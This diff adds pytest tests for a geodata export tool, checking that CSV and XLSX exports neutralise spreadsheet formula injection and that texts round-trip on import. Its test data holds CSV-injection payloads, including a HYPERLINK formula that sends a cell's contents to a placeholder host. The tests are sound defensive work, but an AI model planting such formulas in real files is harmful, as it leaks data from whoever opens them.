@@ -99,3 +99,83 @@ def test_bad_requests_say_what_to_do(dataset, tmp_path, name, options, message):
     with pytest.raises(ExportError, match=message):
         export_layer(dataset, "villages", tmp_path / name, **options)
     assert not (tmp_path / name).exists()
+
+
+# Texts a spreadsheet would run as formulas (OWASP's list), and one already starting with a quote.
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&B2,"详情")', "+86 139", "-2+3 户", "@SUM(A1:A9)",
+            "\t=1+2", "\r=1+2", " =1+2", "'=1+2"]
+
+
+def _planted(dataset):
+    """Every text field (ids, codes and choices aside) of every layer holding a formula text,
+    cycling through FORMULAS row by row; households' persons negative, to stay a number."""
+    from geodata.schema import SCHEMAS
+
+    for name, schema in SCHEMAS.items():
+        frame = dataset[name].copy()
+        texts = [f.name for f in schema.fields if f.type == "str" and not f.choices and f.name != schema.id_field
+                 and f.name not in (schema.village_field, "code", "scope")]
+        for column in texts:
+            frame[column] = [FORMULAS[i % len(FORMULAS)] for i in range(len(frame))]
+        dataset[name] = frame
+    dataset["households"] = dataset.households.assign(persons=-3)
+    return dataset
+
+
+def _planted_cells(dataset, layer):
+    from geodata.schema import schema_for
+
+    schema = schema_for(layer)
+    return sum(1 for f in schema.fields if dataset[layer][f.name].isin(FORMULAS).any())
+
+
+@pytest.mark.parametrize("audience", ["public", "internal"])
+def test_no_exported_spreadsheet_cell_is_a_formula(dataset, tmp_path, audience):
+    import csv
+
+    from geodata.schema import SCHEMAS
+
+    dataset = _planted(dataset)
+    for layer in SCHEMAS:
+        if not _planted_cells(dataset, layer) or len(dataset[layer]) == 0:
+            continue
+        xlsx, text = tmp_path / f"{layer}.xlsx", tmp_path / f"{layer}.csv"
+        export_layer(dataset, layer, xlsx, audience=audience)
+        export_layer(dataset, layer, text, audience=audience)
+        sheet = load_workbook(xlsx).active
+        header = [c.value for c in sheet[1]]
+        with text.open(encoding="utf-8-sig", newline="") as handle:
+            rows = list(csv.reader(handle))
+        assert rows[0] == header
+        seen = 0
+        for row, (cells, line) in enumerate(zip(sheet.iter_rows(min_row=2), rows[1:])):
+            for cell, written in zip(cells, line):
+                assert cell.data_type != "f", (layer, cell.coordinate, cell.value)
+                if header[cell.column - 1] == "persons":
+                    assert cell.data_type == "n" and cell.value == -3 and written == "-3"
+                original = dataset[layer][header[cell.column - 1]].iat[row] \
+                    if header[cell.column - 1] in dataset[layer] else None
+                if original in FORMULAS:
+                    seen += 1
+                    # XML reads a carriage return back as a line feed: still no formula.
+                    shown = "'" + original.replace("\r", "\n")
+                    assert cell.data_type == "s" and cell.value == shown, (layer, cell.coordinate)
+                    assert written == "'" + original, (layer, row, written)
+                else:
+                    assert not str(written).startswith(("=", "+", "@", "\t", "\r")), (layer, written)
+        planted_here = [name for name in header if name in dataset[layer] and dataset[layer][name].isin(FORMULAS).any()]
+        assert seen or not planted_here, layer  # public households: every text is personal, none written
+
+
+def test_an_exported_file_imports_back_with_the_texts_as_they_were(dataset, tmp_path):
+    dataset = _planted(dataset)
+    for suffix in (".csv", ".xlsx"):
+        path = tmp_path / f"checkpoints{suffix}"
+        export_layer(dataset, "checkpoints", path)
+        plan = plan_import(read_source(path), dataset, "checkpoints", mode="replace")
+        assert not plan.errors, [str(p) for p in plan.errors]
+        back = plan.result.set_index("id").sort_index()
+        original = dataset.checkpoints.set_index("id").sort_index()
+        # The importer trims a cell's surrounding blanks, as it always has.
+        assert list(back["name"]) == [text.strip() for text in original["name"]], suffix
+        assert list(back["note"]) == [text.strip() for text in original["note"]], suffix
